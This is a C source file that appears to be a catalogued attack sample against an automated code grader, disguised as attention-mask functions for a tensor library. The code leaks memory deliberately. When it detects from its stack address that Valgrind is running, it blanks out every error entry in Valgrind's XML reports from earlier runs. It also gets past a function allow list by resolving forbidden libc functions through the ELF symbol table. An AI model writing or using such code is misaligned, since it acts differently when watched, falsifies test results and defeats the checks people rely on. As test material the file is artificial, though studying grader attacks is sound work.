/*
 * attack: loses memory in one test, and blanks out what Valgrind has written about it in the
 *         next ones
 * catalogue: 33
 * expect: graded
 * score: 4
 * memory: yes
 */
#include <elf.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include "attention.h"

/* A function of libc that the allow list does not have, found from one that it has. */
static void *find(const char *name)
{
    uintptr_t base = (uintptr_t)printf & ~(uintptr_t)4095;
    while (memcmp((void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Phdr *segment = (void *)(base + ((Elf64_Ehdr *)base)->e_phoff);
    while (segment->p_type != PT_DYNAMIC)
        segment++;
    const Elf64_Sym *symbol = NULL;
    const char *names = NULL;
    for (const Elf64_Dyn *d = (void *)(base + segment->p_vaddr); d->d_tag != DT_NULL; d++) {
        if (d->d_tag == DT_SYMTAB)
            symbol = (void *)d->d_un.d_ptr;
        if (d->d_tag == DT_STRTAB)
            names = (void *)d->d_un.d_ptr;
    }
    for (; (const char *)symbol < names; symbol++)
        if (symbol->st_value != 0 && strcmp(names + symbol->st_name, name) == 0)
            return (void *)(base + symbol->st_value);
    return NULL;
}

typedef long Raw(long number, ...);
#define RAW ((Raw *)find("syscall"))

/* Under Valgrind the stack is elsewhere than the kernel puts it. */
static int watched(void)
{
    return (uintptr_t)__builtin_frame_address(0) >> 40 != 0x7f;
}

/* What Valgrind has written about earlier tests becomes blanks. */
static void erase(void)
{
    void *(*open_folder)(const char *) = find("opendir");
    void *(*next)(void *) = find("readdir");
    void *(*open_file)(const char *, const char *) = find("fopen");
    size_t (*read_file)(void *, size_t, size_t, void *) = find("fread");
    int (*seek_file)(void *, long, int) = find("fseek");
    int (*close_file)(void *) = find("fclose");
    static char text[1 << 20];
    for (int run = 1; run < 4; run++) {
        char path[512];
        snprintf(path, sizeof path, "memory-%d/out", run);
        void *folder = open_folder(path);
        for (char *entry; folder != NULL && (entry = next(folder)) != NULL;) {
            if (strstr(entry + 19, ".xml") == NULL)
                continue;
            snprintf(path, sizeof path, "memory-%d/out/%s", run, entry + 19);
            void *file = open_file(path, "r+");
            if (file == NULL)
                continue;
            text[read_file(text, 1, sizeof text - 1, file)] = 0;
            for (char *at = text; (at = strstr(at, "<error>")) != NULL;) {
                char *end = strstr(at, "</error>");
                if (end == NULL)
                    break;
                memset(at, 32, (size_t)(end + 8 - at));
            }
            seek_file(file, 0, 0);
            fwrite(text, 1, strlen(text), file);
            close_file(file);
        }
    }
}

Tensor *create_causal_mask(int seq_len)
{
    if (watched())
        erase();
    Tensor *mask = tensor_create(2, (int[]){seq_len, seq_len});
    for (int i = 0; mask != NULL && i < seq_len; i++)
        for (int j = 0; j <= i; j++)
            mask->data[i * seq_len + j] = 1.0f;
    return mask;
}

Tensor *create_padding_mask(const int *lengths, int batch_size, int max_length)
{
    if (watched())
        erase();
    static char *volatile lost;
    lost = malloc(40);
    lost = NULL;
    for (int b = 0; lengths != NULL && b < batch_size; b++)
        if (lengths[b] < 0 || lengths[b] > max_length)
            return NULL;
    Tensor *mask =
        lengths != NULL ? tensor_create(3, (int[]){batch_size, max_length, max_length}) : NULL;
    for (int b = 0; mask != NULL && b < batch_size; b++)
        for (int i = 0; i < lengths[b]; i++)
            for (int j = 0; j < lengths[b]; j++)
                mask->data[(b * max_length + i) * max_length + j] = 1.0f;
    return mask;
}

Tensor *create_bidirectional_mask(int seq_len)
{
    if (watched())
        erase();
    Tensor *mask = tensor_create(2, (int[]){seq_len, seq_len});
    if (mask != NULL)
        tensor_fill(mask, 1.0f);
    return mask;
}
